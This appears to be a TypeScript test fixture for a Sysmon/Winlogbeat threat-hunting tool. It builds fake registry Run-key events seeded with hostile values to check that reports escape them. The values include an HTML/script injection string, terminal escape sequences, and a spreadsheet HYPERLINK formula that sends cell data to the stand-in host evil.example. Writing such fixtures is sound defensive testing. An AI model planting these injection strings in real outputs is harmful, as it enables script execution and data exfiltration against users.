import type { RawEvent } from '../../src/model/events.js';
import { emptyData } from '../../src/model/events.js';
import type { Report } from '../../src/model/finding.js';
import { huntEvents } from '../../src/hunt.js';

/** The value the issue names: it must show as text in every report, never as markup. */
export const HTML_ATTACK = '"><img src=x onerror=alert(1)><script>alert(2)</script>';
/** Terminal attacks: set the window title (OSC 0) and clear the screen (CSI 2J). */
export const TERMINAL_ATTACK = 'pwn\x1b]0;pwn\x07\x1b[2J';
/** A formula a spreadsheet would evaluate. */
export const FORMULA_ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

function ev(
  recordId: number,
  eventId: number,
  time: string,
  computer: string,
  fields: Record<string, string>,
): RawEvent {
  const data = emptyData();
  Object.assign(data, fields);
  return {
    source: 'hostile.evtx',
    recordId,
    timeCreated: time,
    eventId,
    provider: 'Microsoft-Windows-Sysmon',
    channel: 'Microsoft-Windows-Sysmon/Operational',
    computer,
    data,
  };
}

const GUID = '{11111111-2222-3333-4444-555555555555}';

/**
 * Run-key writes whose value names, data and writer come from the attacker, built as RawEvents
 * and hunted with the real pipeline (huntEvents), so the reports see real findings.
 */
export function hostileEvents(): RawEvent[] {
  const run = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\';
  const writer = 'C:\\Users\\Public\\evil</script>.exe';
  const set = (id: number, t: string, host: string, name: string, details: string): RawEvent =>
    ev(id, 13, t, host, {
      RuleName: '-',
      EventType: 'SetValue',
      UtcTime: t.replace('T', ' ').replace('Z', ''),
      ProcessGuid: GUID,
      ProcessId: '4242',
      Image: writer,
      TargetObject: run + name,
      Details: details,
    });
  return [
    ev(1, 1, '2024-05-01T10:00:00.000Z', 'WS-HTML', {
      UtcTime: '2024-05-01 10:00:00.000',
      ProcessGuid: GUID,
      ProcessId: '4242',
      Image: writer,
      CommandLine: `"${writer}" --install ${HTML_ATTACK}`,
      ParentImage: 'C:\\Windows\\explorer.exe',
      User: 'WS-HTML\\victim',
    }),
    set(
      2,
      '2024-05-01T10:00:01.000Z',
      'WS-HTML',
      HTML_ATTACK,
      `C:\\Users\\Public\\${HTML_ATTACK}.exe`,
    ),
    set(
      3,
      '2024-05-01T10:00:02.000Z',
      'WS-TERM',
      TERMINAL_ATTACK,
      `C:\\Users\\Public\\a.exe ${TERMINAL_ATTACK}`,
    ),
    set(4, '2024-05-01T10:00:03.000Z', 'WS-CSV', FORMULA_ATTACK, `-c ${FORMULA_ATTACK}`),
  ];
}

export function hostileReport(): Report {
  return huntEvents(hostileEvents(), { generatedAt: '2024-05-02T00:00:00.000Z' }, [
    { path: 'hostile.evtx', format: 'evtx', events: 4, bytes: 4096, issues: [] },
  ]);
}

/** The same events as Winlogbeat JSON lines, for tests that run the CLI on a file. */
export function hostileJsonLines(): string {
  return hostileEvents()
    .map((e) =>
      JSON.stringify({
        '@timestamp': e.timeCreated,
        winlog: {
          event_id: e.eventId,
          record_id: e.recordId,
          provider_name: e.provider,
          channel: e.channel,
          computer_name: e.computer,
          event_data: { ...e.data },
        },
      }),
    )
    .join('\n')
    .concat('\n');
}
